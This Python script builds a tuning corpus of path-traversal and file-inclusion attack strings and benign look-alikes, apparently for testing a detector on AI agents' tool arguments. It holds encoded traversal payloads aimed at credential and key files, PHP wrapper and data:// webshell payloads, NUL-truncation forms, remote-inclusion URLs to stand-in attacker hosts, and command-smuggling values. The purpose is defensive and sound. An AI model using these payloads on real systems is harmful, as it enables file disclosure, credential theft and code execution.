"""
Session 11's tune-only lines for path traversal and file inclusion:
C{path_traversal_s11.attacks.jsonl} and C{path_traversal_s11.benign.jsonl}.

    python tests/corpus/classic/build_path_s11.py

Nothing is read from a mirror: every line is generated here.  The attacks
combine the ways a path is climbed or spelled (the dot and separator
encodings of a traversal engine in the manner of dotdotpwn, GPL-3.0, whose
C{TraversalEngine.pm} was read for its idea, dots x slashes x depth with
prefixes and suffixes; no line of it is copied) with the files a tester reads
on Linux, Windows, macOS and in containers and clouds, written into the
argument shapes agents use (a path, a file name, a URL's query, a template,
an include parameter) and with the absolute, wrapper, NUL and UNC forms.
The benign lines are what those same arguments honestly carry: workspace
paths that climb and stay inside, relative imports of monorepos, git
ranges, version ranges, URLs with escapes, Windows project paths, projects
whose root is a home directory, prose that names system files.

Every line is C{tune}: they were written knowing the rules, so they cannot
stand for traffic the rules were not tuned on.
"""

from __future__ import annotations

import json
import os
import random
from typing import Callable, Iterator
from urllib.parse import quote

HERE = os.path.dirname(os.path.abspath(__file__))
SEED = "issue16:path_traversal:s11"

# --- the files a tester reads ---------------------------------------------------
UNIX_FILES = [
    "etc/passwd", "etc/shadow", "etc/group", "etc/issue", "etc/hosts", "etc/sudoers", "etc/crontab", "etc/hostname",
    "etc/ssh/sshd_config", "etc/ssh/ssh_host_rsa_key", "etc/mysql/my.cnf", "etc/my.cnf", "etc/httpd/conf/httpd.conf",
    "etc/apache2/apache2.conf", "etc/apache2/sites-enabled/000-default.conf", "etc/nginx/nginx.conf",
    "etc/nginx/sites-available/default", "etc/php/8.1/apache2/php.ini", "etc/php.ini", "etc/redis/redis.conf",
    "etc/postgresql/14/main/pg_hba.conf", "etc/ssl/private/server.key", "etc/letsencrypt/live/example.com/privkey.pem",
    "etc/environment", "etc/profile", "etc/fstab", "etc/resolv.conf", "etc/motd", "etc/security/opasswd",
    "etc/rancher/k3s/k3s.yaml", "etc/kubernetes/admin.conf", "etc/kubernetes/pki/ca.key", "etc/docker/daemon.json",
    "proc/self/environ", "proc/self/cmdline", "proc/self/fd/0", "proc/self/fd/9", "proc/self/status", "proc/self/maps",
    "proc/self/mounts", "proc/self/cwd/app.py", "proc/1/environ", "proc/1/cgroup", "proc/version", "proc/net/tcp",
    "proc/self/mountinfo", "var/log/apache2/access.log", "var/log/apache2/error.log", "var/log/nginx/access.log",
    "var/log/nginx/error.log", "var/log/httpd/access_log", "var/log/auth.log", "var/log/secure", "var/log/syslog",
    "var/log/mail.log", "var/log/vsftpd.log", "var/log/mysql/error.log", "var/spool/cron/crontabs/root", "var/mail/root",
    "root/.bash_history", "root/.ssh/id_rsa", "root/.ssh/authorized_keys", "root/.aws/credentials", "root/.kube/config",
    "root/.docker/config.json", "home/ubuntu/.ssh/id_ed25519", "home/ubuntu/.bash_history", "home/deploy/.git-credentials",
    "home/deploy/.netrc", "home/deploy/.pgpass", "home/app/.env", "var/www/html/wp-config.php", "var/www/html/.env",
    "var/www/html/config.php", "var/www/app/.git/config", "srv/app/config/database.yml", "app/.env", "usr/src/app/.env",
    "var/run/secrets/kubernetes.io/serviceaccount/token", "var/run/secrets/kubernetes.io/serviceaccount/namespace",
    "run/secrets/db_password", "var/lib/jenkins/secrets/initialAdminPassword", "var/lib/kubelet/config.yaml",
    "var/lib/mysql/mysql/user.MYD", "usr/local/etc/php/php.ini", "usr/local/apache2/conf/httpd.conf",
    "usr/local/nginx/conf/nginx.conf", "opt/lampp/etc/httpd.conf", "opt/tomcat/conf/tomcat-users.xml",
    "root/.config/gcloud/application_default_credentials.json", "home/user/.azure/accessTokens.json",
    "var/run/docker.sock", "dev/tcp/10.0.0.1/4444", "tmp/sess_abc123def456", "var/lib/php/sessions/sess_0a1b2c3d",
]
WINDOWS_FILES = [
    "boot.ini", "windows/win.ini", "windows/system.ini", "windows/system32/drivers/etc/hosts", "windows/system32/config/SAM",
    "windows/system32/config/SYSTEM", "windows/system32/config/RegBack/SAM", "windows/repair/SAM", "windows/panther/unattend.xml",
    "windows/panther/unattended.xml", "windows/debug/NetSetup.log", "windows/system32/inetsrv/config/applicationHost.config",
    "windows/system32/license.rtf", "windows/php.ini", "windows/iis6.log", "winnt/win.ini", "inetpub/wwwroot/web.config",
    "inetpub/wwwroot/global.asa", "inetpub/logs/LogFiles/W3SVC1/u_ex240101.log", "xampp/apache/conf/httpd.conf",
    "xampp/php/php.ini", "xampp/FileZillaFTP/FileZilla Server.xml", "wamp/bin/apache/apache2.4.9/conf/httpd.conf",
    "Users/Administrator/NTUSER.DAT", "Users/Administrator/.ssh/id_rsa", "Users/Administrator/AppData/Roaming/FileZilla/sitemanager.xml",
    "Documents and Settings/Administrator/NTUSER.DAT", "ProgramData/MySQL/MySQL Server 8.0/my.ini", "sysprep.inf",
    "sysprep/sysprep.xml", "autoexec.bat", "Program Files/Apache Group/Apache/conf/httpd.conf",
]
MAC_FILES = [
    "private/etc/passwd", "private/etc/master.passwd", "etc/master.passwd", "private/var/db/dslocal/nodes/Default/users/root.plist",
    "Library/Keychains/System.keychain", "Users/alice/Library/Keychains/login.keychain-db", "Users/alice/.zsh_history",
    "Users/alice/.ssh/id_ed25519", "Library/Preferences/SystemConfiguration/preferences.plist",
    "Applications/XAMPP/xamppfiles/etc/httpd.conf", "Library/WebServer/Documents/index.php", "private/var/log/system.log",
]
APP_FILES = [".env", ".env.production", ".git/config", ".git-credentials", ".aws/credentials", ".ssh/id_rsa", ".htpasswd",
             "config/database.yml", "WEB-INF/web.xml", "wp-config.php", "web.config", "config.inc.php", ".npmrc", ".pypirc"]
ALL_FILES = UNIX_FILES + WINDOWS_FILES + MAC_FILES

# --- how dots and separators are spelled (a traversal engine's table) ----------
DOTS = [
    "..", ".%2e", "%2e.", "%2e%2e", "%2E%2E", "%252e%252e", "%25252e%25252e", "%c0%ae%c0%ae", "%c0.%c0.", "%c0%2e%c0%2e",
    "%e0%80%ae%e0%80%ae", "%f0%80%80%ae%f0%80%80%ae", "%f8%80%80%80%ae%f8%80%80%80%ae", "%fc%80%80%80%80%ae%fc%80%80%80%80%ae",
    "%25c0%25ae%25c0%25ae", "%uff0e%uff0e", "%u002e%u002e", "\uff0e\uff0e", "\u2024\u2024", "%%32%%65%%32%%65",
    "0x2e0x2e", "&#46;&#46;", "&#x2e;&#x2e;", "\\u002e\\u002e", "%c0%ee%c0%ee", "%c0%5e%c0%5e", ".%00.", "..%00", "..%01",
    "....", ".../.", "%2e%c0%ae", "%e0%40%ae%e0%40%ae", ".?", "??", "?.", "%5C..", "%%c0%6e%c0%6e", "%c0%fe%c0%fe",
]
# whole climbs written as one unit, and long runs before a climb
SPECIAL = ["..//", "..///", "..\\\\", "..\\\\\\", "../\\", "..\\/", "../\\/", "..\\/\\", "\\../", "/..\\", ".../", "...\\",
           "./../", ".\\..\\", ".//..//", ".\\\\..\\\\", "......///", "%2e%c0%ae%5c", "%2e%c0%ae%2f"]
RUNS = ["A", ".", "./", ".\\"]
# where a server keeps its logs, written relative to its root or a climb
LOG_PATHS = [
    "apache/logs/access.log", "apache/logs/error.log", "apache2/logs/access_log", "logs/access_log", "logs/error_log",
    "httpd/logs/access_log", "nginx/logs/error.log", "xampp/apache/logs/access.log", "usr/local/apache/logs/access_log",
    "opt/lampp/logs/access_log", "etc/httpd/logs/error_log", "var/www/logs/access.log", "Program Files/Apache Group/Apache/logs/access.log",
    "wamp/logs/apache_error.log", "var/log/lighttpd/access.log", "inetpub/logs/LogFiles/W3SVC1/u_ex240101.log",
    "etc/httpd/logs/acces_log", "var/log/apache/error.log", "var/log/auth.log", "etc/httpd/conf/httpd.conf",
]
SLASHES = [
    "/", "\\", "%2f", "%5c", "%2F", "%5C", "%252f", "%255c", "%25252f", "0x2f", "0x5c", "%c0%af", "%c0%2f", "%c0%5c",
    "%c1%9c", "%c1%1c", "%c1%af", "%c1%pc", "%c0%9v", "%c0%qf", "%c1%8s", "%bg%qf", "%e0%80%af", "%f0%80%80%af",
    "%f8%80%80%80%af", "%25c0%25af", "%25c1%259c", "%u2215", "%u2216", "%uEFC8", "%uF025", "%uff0f", "\uff0f", "\uff3c",
    "\u2215", "%%32%%66", "%%35%%63", "&#47;", "&#92;", "\\u002f", "\\\\", "//", "/\\", "\\/",
]
PREFIXES = ["", "", "", "/", "./", ".\\", "\\", "///", "\\\\\\", "uploads/", "images\\", "static/css/", "templates/", "C:\\",
            "/var/www/html/", "/srv/app/public/", "../../foo/", "A" * 64, "." * 64, "./" * 40, "~/", "file/"]
SUFFIXES = ["", "", "", "", "%00", "%00.png", "%00index.html", "\x00.jpg", "\\0", "%2500", "?", " ", ";index.html", "#",
            "%23.php", "::$DATA", ".", "...", "%20", "/.", "?.jpg", ".html%00", "%00%00"]

# --- argument shapes ---------------------------------------------------------------
FILE_ARGS = [
    ("read_file", "path"), ("open_file", "path"), ("view_file", "file"), ("download", "filename"), ("get_document", "name"),
    ("render_template", "template"), ("include_page", "page"), ("load_config", "config"), ("show_log", "log"),
    ("get_image", "src"), ("export_report", "output"), ("attach_file", "attachment"), ("set_language", "lang"),
    ("load_theme", "theme"), ("preview", "doc"), ("get_asset", "asset_path"), ("fetch_resource", "uri"),
]
URL_ARGS = [("fetch_url", "url"), ("http_get", "url"), ("open_link", "href"), ("load_resource", "uri")]
QUERY_SHAPES = [
    "https://app.example.com/download?file={p}", "http://127.0.0.1:8080/index.php?page={p}",
    "https://cms.example.org/view.php?template={p}&lang=en", "http://intranet.local/show?doc={p}",
    "/index.php?include={p}", "https://shop.example/images?img={p}", "http://localhost/cgi-bin/show.cgi?f={p}",
]


def encodeName(name: str, slash: str) -> str:
    """
    The target's own separators spelled as the climb spells them (as
    dotdotpwn does), or left alone.
    """
    return name.replace("/", slash)


def traversal(rng: random.Random, name: str) -> tuple[str, str]:
    dots, slash = rng.choice(DOTS), rng.choice(SLASHES)
    depth = rng.randint(1, 10)
    body = (dots + slash) * depth
    own = rng.random() < 0.6
    kind = "plain" if dots == ".." and slash in ("/", "\\") else "enc"
    return "climb:" + kind, rng.choice(PREFIXES) + body + (encodeName(name, slash) if own else name) + rng.choice(SUFFIXES)


def special(rng: random.Random, name: str) -> str:
    depth = rng.randint(1, 8)
    if rng.random() < 0.5:
        climb = rng.choice(SPECIAL) * depth
    else:
        climb = rng.choice(RUNS) * rng.choice([64, 256, 512]) + rng.choice(["../", "..\\"]) * depth
    sep = "\\" if "\\" in climb[-3:] else "/"
    return climb + name.replace("/", sep) + rng.choice(SUFFIXES)


def logPath(rng: random.Random) -> str:
    name = rng.choice(LOG_PATHS)
    form = rng.randint(0, 4)
    if form == 0:
        return name
    if form == 1:
        return "../" * rng.randint(1, 6) + name
    if form == 2:
        return "/" + name
    if form == 3:
        return "C:\\" + name.replace("/", "\\")
    return "..\\" * rng.randint(1, 6) + name.replace("/", "\\")


def mixedSeparators(rng: random.Random, name: str) -> str:
    depth = rng.randint(2, 9)
    parts = [rng.choice(["../", "..\\", "..//", "..\\\\", "../\\", "..\\/", ".../", "...\\", "..///", "./../", ".\\..\\",
                         ".//..//", "......///", "..;/", "..;\\", "..%5c", "..%2f", "%2e%2e/", "..\\.\\"]) for _ in range(depth)]
    return "".join(parts) + (name.replace("/", "\\") if rng.random() < 0.5 else name)


def encodeAll(s: str, rounds: int) -> str:
    for _ in range(rounds):
        s = quote(s, safe="")
    return s


def absolute(rng: random.Random, name: str) -> str:
    windows = name in WINDOWS_FILES or name.startswith(("Users/", "ProgramData/", "Documents and Settings/"))
    if windows:
        drive = rng.choice(["C:", "c:", "D:", "C:", "%SYSTEMDRIVE%"])
        sep = rng.choice(["\\", "/", "\\\\", "/"])
        forms = [
            drive + sep + name.replace("/", sep),
            drive + sep + name.upper().replace("/", sep),
            "file:///" + drive + "/" + name,
            "file://localhost/" + drive + "/" + name,
            "\\\\?\\" + drive + "\\" + name.replace("/", "\\"),
            "\\\\.\\" + drive + "\\" + name.replace("/", "\\"),
            "\\\\127.0.0.1\\c$\\" + name.replace("/", "\\"),
            "\\\\localhost\\admin$\\" + name.replace("/", "\\"),
            "//10.0.0.5/c$/" + name,
            "\\" + name.replace("/", "\\"),
            drive + sep + name.replace("/", sep) + rng.choice(["::$DATA", ".", "%00.txt", " "]),
        ]
    else:
        forms = [
            "/" + name, "/" + name, "//" + name.replace("/", "//"), "/./" + name.replace("/", "/./"), "file:///" + name,
            "file://localhost/" + name, "file:/" + name, "FILE:///" + name, "/" + name + "%00.png", "%2f" + name.replace("/", "%2f"),
            "%252f" + name.replace("/", "%252f"), "\uff0f" + name.replace("/", "\uff0f"), "/" + name + "\x00", "\\" + name.replace("/", "\\"),
            "/" + name.split("/")[0] + "/../" + name, "/var/www/html/../../../" + name, "/" + name + "/.", "/" + name.replace("/", "/" + "/"),
        ]
    return rng.choice(forms)


def wrapper(rng: random.Random, name: str) -> str:
    path = "/" + name
    rel = "../" * rng.randint(0, 6) + name
    forms = [
        "php://filter/convert.base64-encode/resource=" + rng.choice([path, rel, "index.php", "config.php", "../config.php"]),
        "php://filter/read=string.rot13/resource=" + rng.choice([path, "index.php", "admin.php"]),
        "php://filter/read=convert.base64-encode|convert.base64-decode/resource=" + rng.choice([path, "wp-config.php"]),
        "php://filter/convert.iconv.UTF8.UTF7/resource=" + rng.choice([path, "index.php"]),
        "php://filter/zlib.deflate/convert.base64-encode/resource=" + rng.choice([path, "login.php"]),
        "pHp://FilTer/convert.base64-encode/resource=" + rng.choice([path, "index.php"]),
        "php://input", "php://fd/3", "php://stdin", "php://memory", "php://temp",
        "file://" + path, "file:" + path, "file://localhost" + path,
        "zip://uploads/avatar.jpg%23shell.php", "zip:///var/www/uploads/a.zip#" + rng.choice(["x.php", "shell"]),
        "phar://uploads/image.jpg/shell.php", "phar:///tmp/upload.phar/test.txt",
        "expect://id", "expect://ls -la", "expect://cat " + path,
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==", "data://text/plain,<?php system($_GET['c']); ?>",
        "data:text/plain,<?php echo shell_exec('id'); ?>", "data:;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
        "glob:///var/www/*", "compress.zlib://" + path, "compress.bzip2://" + path, "ssh2.exec://user:pass@127.0.0.1:22/id",
        "rar://uploads/a.rar#shell.php", "jar:file:///opt/app/lib/app.jar!/META-INF/MANIFEST.MF", "netdoc:///etc/passwd",
        "ogg://uploads/x.ogg",
    ]
    return rng.choice(forms)


def nulTruncation(rng: random.Random, name: str) -> str:
    climb = rng.choice(["../" * rng.randint(3, 8), "/", "..\\" * rng.randint(3, 8), "%2e%2e%2f" * rng.randint(3, 7)])
    return climb + name + rng.choice(["%00", "%00.jpg", "%00.php", "\x00.png", "\\x00.pdf", "\\0", "%2500.html", "\\u0000.txt", "%u0000.gif"])


def shaped(rng: random.Random, family: str, text: str) -> tuple[str, str, str, str]:
    """
    The payload in an argument an agent fills: a file argument as it is, or
    a URL argument with the payload in its query string.
    """
    if rng.random() < 0.25:
        tool, arg = rng.choice(URL_ARGS)
        q = rng.choice(QUERY_SHAPES)
        return family + "+query", tool, arg, q.format(p=text if rng.random() < 0.5 else quote(text, safe="/\\.%"))
    tool, arg = rng.choice(FILE_ARGS)
    return family, tool, arg, text


def attacks(rng: random.Random) -> Iterator[tuple[str, str, str, str]]:
    for _ in range(500):
        family, text = traversal(rng, rng.choice(ALL_FILES))
        yield shaped(rng, family, text)
    for _ in range(120):
        yield shaped(rng, "mixed_separators", mixedSeparators(rng, rng.choice(ALL_FILES)))
    for _ in range(80):
        rounds = rng.choice([2, 2, 3, 1])
        s = "../" * rng.randint(3, 8) + rng.choice(ALL_FILES)
        yield shaped(rng, f"encoded_x{rounds}", encodeAll(s, rounds) if rounds > 1 else quote(s, safe=""))
    for _ in range(220):
        yield shaped(rng, "absolute", absolute(rng, rng.choice(ALL_FILES)))
    for _ in range(120):
        yield shaped(rng, "wrapper", wrapper(rng, rng.choice(UNIX_FILES + WINDOWS_FILES[:6])))
    for _ in range(60):
        yield shaped(rng, "nul", nulTruncation(rng, rng.choice(ALL_FILES)))
    for _ in range(120):
        yield shaped(rng, "special", special(rng, rng.choice(ALL_FILES)))
    for _ in range(60):
        yield shaped(rng, "log_path", logPath(rng))
    # a separator encoded wrongly (%25%5c for %255c): the list's climb all the same
    for _ in range(30):
        junk = rng.choice(["%25%5c", "%25%2f", "%25%5C", "%%5c", "%25%255c"])
        lead = rng.choice(["", "/", junk])
        yield shaped(rng, "stray_percent", lead + (".." + junk) * rng.randint(3, 12) + rng.choice(["", "boot.ini", "etc" + junk + "passwd", "windows" + junk + "win.ini"]))
    # a remote script kept as text, its URL cut where the server's suffix goes
    for _ in range(30):
        host = rng.choice(["evil.example", "203.0.113.7", "attacker.example.net:8000", "pastebin.example/raw"])
        tail = rng.choice(["shell.txt?", "c99.txt?", "r57.txt%00", "cmd.inc?", "x.php%00", "rev.sh%00", "shell.txt%3f"])
        tool, arg = rng.choice(FILE_ARGS)
        yield "remote_inclusion", tool, arg, rng.choice(["http://", "https://", "ftp://"]) + host + "/" + tail
    # the files every list ends in, after a command or a quote in a value
    for _ in range(30):
        f = rng.choice(["/etc/passwd", "/etc/shadow", "/proc/self/environ", "c:\\windows\\win.ini", "C:/boot.ini", "/etc/master.passwd"])
        tool, arg = rng.choice(FILE_ARGS)
        yield "mid_value", tool, arg, rng.choice(["\\'/bin/cat {f}\\'", "x' {f}", "|type {f}", "a.txt;more {f}", "`{f}`", "<{f}"]).format(f=f)
    for _ in range(50):
        name = rng.choice(APP_FILES)
        yield shaped(rng, "app_climb", "../" * rng.randint(3, 7) + name)


# --- hard benign ---------------------------------------------------------------------
PROJECT_FILES = [
    "src/index.ts", "src/components/Button.tsx", "packages/ui/src/theme.ts", "apps/web/next.config.js", "lib/utils/format.py",
    "tests/test_api.py", "docs/guide/intro.md", "README.md", "package.json", "tsconfig.json", "Cargo.toml", "go.mod",
    "cmd/server/main.go", "internal/auth/token.go", "app/models/user.rb", "config/routes.rb", "config/settings.yaml",
    "assets/images/logo.svg", "public/favicon.ico", "scripts/deploy.sh", "Makefile", "docker-compose.yml",
    ".github/workflows/ci.yml", "etc/app.example.conf", "examples/hosts.example", "fixtures/passwd.txt", "logs/app.log",
    "var/cache/.gitkeep", "spec/fixtures/files/sample.csv", "src/main/resources/application.properties",
]
WORKSPACES = ["/home/dev/project/", "/workspace/", "/Users/alice/code/site/", "/srv/app/current/", "/tmp/build-42/",
              "~/src/api/", "./", "", "C:\\Users\\alice\\source\\repos\\App\\", "D:\\work\\monorepo\\"]


def benign(rng: random.Random) -> Iterator[tuple[str, str, str, str]]:
    tools = FILE_ARGS[:5] + FILE_ARGS[-3:]
    # climbs that stay inside: one or two levels from a subdirectory
    for _ in range(80):
        start = rng.choice(["src/", "packages/ui/", "apps/web/src/", "docs/", "tests/unit/", "lib/"])
        up = rng.randint(1, min(2, start.count("/")))
        tool, arg = rng.choice(tools)
        yield "inside_climb", tool, arg, rng.choice(WORKSPACES[:5]) + start + "../" * up + rng.choice(PROJECT_FILES)
    for _ in range(40):
        tool, arg = rng.choice(tools)
        yield "relative_import", tool, arg, rng.choice(["../", "../../", "./"]) + rng.choice(
            ["components/Button", "utils/format", "hooks/useAuth", "styles/main.css", "shared/types", "config"])
    for p in ["../README.md", "../../package.json", "..\\..\\src\\Program.cs", "..\\shared\\Common.props", "..", "../..",
              "./..", "../.env.example", "../.github/CODEOWNERS", "../docs/../README.md", "src/../tests/../README.md"]:
        tool, arg = rng.choice(tools)
        yield "inside_climb", tool, arg, p
    # workspace files with the names of system files, inside a project
    for _ in range(50):
        tool, arg = rng.choice(tools)
        root = rng.choice(WORKSPACES)
        f = rng.choice(PROJECT_FILES)
        yield "workspace", tool, arg, root + (f.replace("/", "\\") if root[1:2] == ":" else f)
    for p in ["/home/dev/project/etc/hosts.example", "/workspace/docker/etc/nginx/nginx.conf.template", "deploy/etc/passwd.sample",
              "/Users/alice/code/site/config/web.config.example", "infra/windows/win.ini.tmpl", "C:\\Users\\alice\\Documents\\notes.txt",
              "C:\\Users\\alice\\Desktop\\report.docx", "C:/Users/bob/projects/game/Assets/Scenes/Main.unity",
              "D:\\Photos\\2024\\IMG_0042.JPG", "E:\\backup\\projects.zip", "/home/dev/.config/myapp/settings.json.example",
              "/tmp/upload-8f2a/input.csv", "/data/exports/2024-10.parquet", "/mnt/shared/team/handbook.pdf"]:
        tool, arg = rng.choice(tools)
        yield "workspace", tool, arg, p
    # files every project has, and a project's own server configuration
    for p in ["/workspace/app/.npmrc", "packages/ui/.npmrc", "/home/dev/project/.git/config", ".git/config", ".history/src/app_20240101.ts",
              "/Users/alice/code/site/.pypirc", "docker/nginx/conf.d/default.conf", "deploy/nginx/nginx.conf", "infra/apache/httpd.conf",
              "/workspace/app/logs/app.log", "logs/2024-10-01.log", "../logs/build.log", "config/php.ini-development", "docker/php/php.ini",
              "/workspace/site/.htaccess", "public/.htaccess", "src/main/webapp/WEB-INF/web.xml", "apps/api/.env.example", ".env.sample",
              "C:\\Users\\alice\\source\\repos\\App\\App\\Web.config", "D:\\work\\site\\web.config", "/workspace/repo/.github/../.npmrc"]:
        tool, arg = rng.choice(tools)
        yield "project_file", tool, arg, p
    # a project whose root is a home directory: its dotfiles are the project's
    for _ in range(30):
        tool, arg = rng.choice(tools)
        home = rng.choice(["/home/dev/", "/Users/alice/", "C:\\Users\\dev\\", "~/"])
        f = rng.choice([".github/workflows/ci.yml", ".vscode/settings.json", ".gitignore", ".editorconfig", ".env.example",
                        ".eslintrc.json", ".prettierrc", ".dockerignore", ".htaccess", ".nvmrc", ".husky/pre-commit", ".devcontainer/devcontainer.json"])
        yield "home_project", tool, arg, home + (f.replace("/", "\\") if home.startswith("C:") else f)
    # remote files and names that mention system files
    for v in ["https://example.com/files/readme.txt", "https://raw.githubusercontent.com/org/repo/main/install.sh",
              "https://example.com/index.php?", "https://example.com/page.php?id=3", "ftp://ftp.example.org/pub/README.txt",
              "notes about /etc/passwd.md", "etc-passwd-format.md", "docs/etc/hosts.md", "100%/..", "progress 50%/100%",
              "etc/akto-proxy/akto-proxy.yaml", "etc/nginx/conf.d/app.conf", "var/log/dev.log", "var/cache/prod/pools.php",
              "logs/error.log", "etc/config.example.yaml", "proc/README.md", "opt/README.md"]:
        tool, arg = rng.choice(tools)
        yield "mention", tool, arg, v
    # git ranges and version ranges
    for r in ["main..feature/search", "HEAD~5..HEAD", "v2.1.0...v2.2.0", "origin/develop..HEAD", "1a2b3c4..5d6e7f8",
              "HEAD@{yesterday}..HEAD", "main...HEAD -- docs/", "release/1.x..release/2.x", "tags/v1..tags/v2", "@{push}..",
              "v3.0.0-rc.1..v3.0.0", "HEAD~1..HEAD -- src/../lib/"]:
        yield "git_range", rng.choice(["git_log", "git_diff", "compare_commits"]), rng.choice(["range", "revision", "spec"]), r
    for v in ["1.2..3", ">=1.2 <2.0", "1..10", "[1..100]", "0.9...1.1", "^1.2.3 || 2.x", "a..z", "2020..2024", "1.0.0..1.0.5"]:
        yield "version_range", rng.choice(["npm_view", "generate_numbers", "filter_releases"]), rng.choice(["range", "version", "spec"]), v
    # URLs with escapes in their path or query
    for u in ["https://example.com/files/My%20Report%20%282024%29.pdf", "https://github.com/org/repo/blob/main/docs/..%20notes.md",
              "https://en.wikipedia.org/wiki/Passwd", "https://man7.org/linux/man-pages/man5/passwd.5.html",
              "https://learn.microsoft.com/en-us/windows/win32/sysinfo/registry-hives",
              "https://example.com/search?q=%2Fetc%2Fhosts%20file%20format", "https://api.example.com/v1/items?path=docs%2Fguide%2Fintro.md",
              "https://cdn.example.com/assets/app.js?v=1.2.3", "https://example.org/a/b/../c/index.html",
              "https://docs.docker.com/engine/security/protect-access/", "https://kubernetes.io/docs/tasks/run-application/access-api-from-pod/",
              "https://www.php.net/manual/en/wrappers.php.php", "https://example.com/download?file=report-2024.pdf",
              "https://storage.example.com/bucket/key%2Fwith%2Fslashes.txt", "https://example.com/%7Ealice/index.html"]:
        tool, arg = rng.choice(URL_ARGS)
        yield "url", tool, arg, u
    # prose that names system files (documentation, issues)
    for t in ["Add the host to /etc/hosts and restart the resolver.", "On Linux, user accounts are listed in /etc/passwd.",
              "The service account token is mounted at /var/run/secrets/kubernetes.io/serviceaccount/token inside the pod.",
              "Check C:\\Windows\\System32\\drivers\\etc\\hosts if the name does not resolve.",
              "Never commit ~/.aws/credentials or your .env file.", "Logs go to /var/log/nginx/error.log by default.",
              "php://filter is often abused in LFI attacks; our WAF blocks it.", "Use ../ sparingly in import paths.",
              "The path traversal payload ../../../etc/passwd was blocked in yesterday's scan.",
              "See /proc/self/status for the process's memory use."]:
        yield "prose", rng.choice(["create_issue", "send_message", "git_commit"]), rng.choice(["body", "text", "message"]), t
    # (media data URIs where an image is sent are left out: the command
    # check reads their "/" and ";" as a separator today, and that is not
    # this class's to judge; tests/inspect/test_s11_path.py holds the path
    # check silent on them)
    # file names with dots
    for n in ["report..final.pdf", "archive.tar.gz", "notes...md", "v1.2..3-changelog.txt", "...", "..hidden-name",
              "photo (1)..jpg", "a.b.c.d.txt", "Q3 results - draft..xlsx", "wait....what.txt"]:
        tool, arg = rng.choice(tools)
        yield "dotted_name", tool, arg, n
    # search patterns and globs
    for g in ["**/*.env.example", "src/**/../*.ts", "**/etc/*.conf", "*.log", "logs/**/*.log", "**/.github/**", "../*.md"]:
        yield "glob", "search_files", "pattern", g


def write(name: str, rows: list[dict[str, str]]) -> None:
    with open(os.path.join(HERE, name), "w", encoding="utf-8") as f:
        for row in rows:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")


def rows(label: str, source: str, lines: Iterator[tuple[str, str, str, str]], seen: set[str]) -> list[dict[str, str]]:
    """
    The corpus lines of C{lines}, each text once across both files.
    """
    out = []
    for family, tool, arg, text in lines:
        if text in seen:
            continue
        seen.add(text)
        out.append({"category": "path_traversal", "label": label, "tool": tool, "argument": arg, "text": text,
                    "direction": "request", "source": source, "family": family, "split": "tune"})
    return out


def main() -> None:
    seen: set[str] = set()
    attack = rows("attack", "generated:s11", attacks(random.Random(SEED + ":attacks")), seen)
    write("path_traversal_s11.attacks.jsonl", attack)
    honest = rows("benign", "written:s11", benign(random.Random(SEED + ":benign")), seen)
    write("path_traversal_s11.benign.jsonl", honest)
    print(f"{len(attack)} attacks, {len(honest)} benign")


if __name__ == "__main__":
    main()
